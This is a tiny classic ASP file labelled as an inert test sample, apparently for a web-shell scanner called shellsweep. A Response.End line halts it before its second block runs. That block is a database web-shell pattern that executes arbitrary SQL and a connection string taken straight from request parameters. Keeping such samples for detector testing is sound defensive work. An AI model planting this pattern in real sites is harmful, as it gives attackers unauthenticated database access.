<% ' shellsweep test sample: inert, never functional
Response.End %>
<%
Set conn = Server.CreateObject("ADODB.Connection")
conn.Open Trim(Request("connstr"))
Set rs = conn.Execute(Request("sql"))
%>
